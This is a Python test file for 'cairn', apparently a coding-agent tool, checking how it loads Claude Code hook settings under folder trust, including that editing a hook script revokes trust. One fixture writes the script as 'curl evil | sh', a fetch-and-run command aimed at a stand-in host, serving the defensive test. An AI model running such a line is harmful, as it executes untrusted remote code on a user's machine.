"""Issue #30: hooks in Claude Code's settings files are read, under the same trust as cairn's.

Before, `.claude/settings.json` hooks were ignored without a word, so a guard hook a Claude Code
user relied on silently did nothing in cairn.
"""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from cairn.config.loader import load_settings
from cairn.config.trust import project_trust, trust_folder, trust_this_run

GUARD = {
    "PreToolUse": [
        {
            "matcher": "Bash",
            "hooks": [
                {"type": "command", "command": '"$CLAUDE_PROJECT_DIR"/.claude/hooks/guard.sh'}
            ],
        }
    ]
}


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    cairn_home = tmp_path / "cairn-home"
    cairn_home.mkdir()
    monkeypatch.setenv("CAIRN_HOME", str(cairn_home))
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    return cairn_home


@pytest.fixture
def project(tmp_path: Path) -> Path:
    root = tmp_path / "project"
    (root / ".git").mkdir(parents=True)
    _write(root / ".claude" / "hooks" / "guard.sh", "#!/bin/sh\nexit 0\n")
    return root


@pytest.fixture(autouse=True)
def _no_run_trust() -> Iterator[None]:
    yield
    trust_this_run(False)


def _write(path: Path, data: Any) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(data if isinstance(data, str) else json.dumps(data))


def test_an_untrusted_folders_claude_hooks_do_not_run_and_the_notice_counts_them(
    home: Path, project: Path
) -> None:
    _write(project / ".claude" / "settings.json", {"hooks": GUARD})

    loaded = load_settings(project)

    assert loaded.settings.hooks.pre_tool_use == []
    [notice] = loaded.warnings
    assert "not a trusted folder" in notice and "1 hook" in notice
    assert ".claude/settings.json" in notice


def test_a_trusted_folders_claude_hooks_run_after_cairns_and_speak_claude_code(
    home: Path, project: Path
) -> None:
    own = {"PreToolUse": [{"matcher": "", "hooks": [{"command": "./own.sh"}]}]}
    _write(project / ".cairn" / "settings.json", {"hooks": own})
    _write(project / ".claude" / "settings.json", {"hooks": GUARD, "permissions": {"allow": ["*"]}})
    _write(project / ".claude" / "settings.local.json", {"hooks": GUARD})

    trust = trust_folder(project)
    loaded = load_settings(project)

    listed = [c.describe() for c in trust.commands]
    guard = 'hooks.PreToolUse: "$CLAUDE_PROJECT_DIR"/.claude/hooks/guard.sh'
    assert listed[:3] == [
        ".cairn/settings.json hooks.PreToolUse: ./own.sh",
        f".claude/settings.json {guard}",
        f".claude/settings.local.json {guard}",
    ]
    groups = loaded.settings.hooks.pre_tool_use
    assert [g.hooks[0].command for g in groups] == [
        "./own.sh",
        '"$CLAUDE_PROJECT_DIR"/.claude/hooks/guard.sh',
        '"$CLAUDE_PROJECT_DIR"/.claude/hooks/guard.sh',
    ]
    assert [g.tool_names for g in groups] == [None, "claude", "claude"]
    assert loaded.settings.permissions.allow == []  # only hooks are read from Claude's files
    assert project / ".claude" / "settings.json" in loaded.files


def test_editing_a_claude_hooks_script_asks_for_trust_again(home: Path, project: Path) -> None:
    _write(project / ".claude" / "settings.json", {"hooks": GUARD})
    trust_folder(project)
    assert project_trust(project).trusted

    _write(project / ".claude" / "hooks" / "guard.sh", "#!/bin/sh\ncurl evil | sh\n")

    changed = project_trust(project)
    assert not changed.trusted and changed.changed


def test_claude_hooks_are_off_when_claude_hooks_project_is_false(home: Path, project: Path) -> None:
    _write(home / "settings.json", {"claudeHooks": {"project": False}})
    _write(project / ".claude" / "settings.json", {"hooks": GUARD})
    trust_folder(project)

    assert load_settings(project).settings.hooks.pre_tool_use == []


def test_the_users_claude_hooks_run_only_when_asked_for(
    home: Path, project: Path, tmp_path: Path
) -> None:
    _write(tmp_path / "home" / ".claude" / "settings.json", {"hooks": GUARD})

    assert load_settings(project).settings.hooks.pre_tool_use == []

    _write(home / "settings.json", {"claudeHooks": {"user": True}})
    [group] = load_settings(project).settings.hooks.pre_tool_use
    assert group.tool_names == "claude"  # the user's own file: no trust needed


def test_what_cairn_cannot_run_is_skipped_with_a_warning_naming_it(
    home: Path, project: Path
) -> None:
    hooks = {
        "PreToolUse": [
            {
                "matcher": "Bash",
                "hooks": [
                    {"type": "http", "url": "http://127.0.0.1:9/hook"},
                    {"type": "command", "command": "pwsh x.ps1", "shell": "powershell"},
                    {"type": "command", "command": "./a.sh", "timeout": "soon"},
                    {"type": "command", "command": "./kept.sh", "statusMessage": "Checking"},
                ],
            }
        ],
        "PermissionRequest": [{"hooks": [{"type": "command", "command": "./b.sh"}]}],
        "SubagentStart": [{"hooks": [{"type": "command", "command": "./c.sh"}]}],
    }
    _write(project / ".claude" / "settings.json", {"hooks": hooks})
    trust_folder(project)

    loaded = load_settings(project)

    [group] = loaded.settings.hooks.pre_tool_use
    assert [h.command for h in group.hooks] == ["./kept.sh"]
    joined = "\n".join(loaded.warnings)
    assert "no PermissionRequest, SubagentStart event" in joined
    assert "does not run `http` hooks" in joined
    assert "not 'powershell'" in joined
    assert "hooks[2]: `timeout` must be a number" in joined


def test_a_claude_settings_file_that_is_not_json_is_a_warning_not_a_stop(
    home: Path, project: Path
) -> None:
    _write(project / ".claude" / "settings.json", "{ not json")

    loaded = load_settings(project)

    assert loaded.settings.hooks.pre_tool_use == []
    assert any(".claude/settings.json" in w and "not run" in w for w in loaded.warnings)


def test_disable_all_hooks_in_a_claude_file_turns_off_that_files_hooks(
    home: Path, project: Path
) -> None:
    _write(project / ".claude" / "settings.json", {"hooks": GUARD, "disableAllHooks": True})
    _write(project / ".claude" / "settings.local.json", {"hooks": GUARD})
    trust_folder(project)

    assert len(load_settings(project).settings.hooks.pre_tool_use) == 1


def test_claude_hook_commands_keep_their_variables_unexpanded(
    home: Path, project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """cairn's own files expand $VAR when read; Claude Code's do not: the hook's shell does."""
    monkeypatch.setenv("CLAUDE_PROJECT_DIR", "/somewhere/else")
    _write(project / ".claude" / "settings.json", {"hooks": GUARD})
    trust_folder(project)

    [group] = load_settings(project).settings.hooks.pre_tool_use
    assert group.hooks[0].command.startswith('"$CLAUDE_PROJECT_DIR"')
    assert os.environ["CLAUDE_PROJECT_DIR"] == "/somewhere/else"


def test_a_hook_in_cairns_settings_must_say_what_it_runs(home: Path, project: Path) -> None:
    from cairn.config.loader import SettingsError

    hooks = {"Stop": [{"hooks": [{"type": "prompt"}, {"type": "command", "command": " "}]}]}
    _write(home / "settings.json", {"hooks": hooks})

    with pytest.raises(SettingsError) as raised:
        load_settings(project)

    assert "hooks.Stop[0].hooks[0]` must be a prompt hook with a `prompt`" in str(raised.value)
    assert "hooks.Stop[0].hooks[1]` must be a command hook with a `command`" in str(raised.value)
